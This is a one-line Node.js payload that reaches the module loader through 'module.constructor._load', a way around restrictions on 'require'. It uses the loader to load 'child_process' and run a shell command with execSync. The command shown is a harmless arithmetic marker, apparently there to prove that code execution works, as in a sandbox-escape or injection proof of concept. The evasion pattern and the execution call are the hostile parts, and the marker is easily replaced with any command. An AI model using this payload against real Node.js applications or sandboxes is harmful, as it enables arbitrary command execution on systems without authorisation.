const {constructor:{_load:l}}=module; l('child_process').execSync('expr 40 + 1001',{stdio:'inherit'});
